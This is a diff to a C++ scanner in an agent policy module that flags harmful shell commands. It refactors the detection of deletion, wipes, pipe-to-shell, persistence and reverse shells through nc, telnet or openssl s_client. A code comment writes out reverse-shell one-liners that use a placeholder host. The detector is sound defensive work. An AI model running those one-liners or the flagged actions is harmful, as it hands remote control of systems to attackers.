@@ -17,15 +17,14 @@ class Judge {
  public:
   explicit Judge(std::vector<Hit>& hits) : hits_(hits) {}
 
-  void judge(const std::vector<ShellRun>& runs, size_t i) {
-    const ShellRun& run = runs[i];
+  void judge(const ShellRun& run) {
     for (const Redirect& redirect : run.command->redirects) judge_redirect(redirect);
     if (run.name.empty()) return;
     if (run.name == "rm" || run.name == "remove-item" || run.name == "rmdir" || run.name == "rd" ||
         run.name == "del" || run.name == "erase" || run.name == "ri")
       judge_remove(run);
     judge_wipe(run);
-    judge_sockets(runs, i);
+    judge_sockets(run);
     judge_persistence(run);
     judge_windows(run);
   }
@@ -91,8 +90,7 @@ class Judge {
     if (is_startup_place(redirect.target)) hit("shell.persistence", Severity::kHigh);
   }
 
-  void judge_sockets(const std::vector<ShellRun>& runs, size_t i) {
-    const ShellRun& run = runs[i];
+  void judge_sockets(const ShellRun& run) {
     std::string all;
     for (const std::string& word : run.arguments) {
       all += word;
@@ -129,12 +127,9 @@ class Judge {
         hit("shell.pipe-to-shell", Severity::kHigh);
     }
     // mkfifo f; cat f | sh -i 2>&1 | nc host port > f, and telnet host 1 | sh | telnet host 2
-    if (netcat || run.name == "telnet" || (run.name == "openssl" && run.has_argument("s_client"))) {
-      for (const ShellRun& other : runs)
-        if (other.command->pipeline == run.command->pipeline &&
-            (is_shell(other.name) || other.name == "cmd"))
-          hit("shell.reverse-shell", Severity::kCritical);
-    }
+    if (run.beside_shell &&
+        (netcat || run.name == "telnet" || (run.name == "openssl" && run.has_argument("s_client"))))
+      hit("shell.reverse-shell", Severity::kCritical);
   }
 
   void judge_persistence(const ShellRun& run) {
@@ -212,8 +207,6 @@ class Judge {
 
 }  // namespace
 
-void find_harm(const std::vector<ShellRun>& runs, size_t i, std::vector<Hit>& hits) {
-  Judge(hits).judge(runs, i);
-}
+void find_harm(const ShellRun& run, std::vector<Hit>& hits) { Judge(hits).judge(run); }
 
 }  // namespace agentmesh::policy::scan
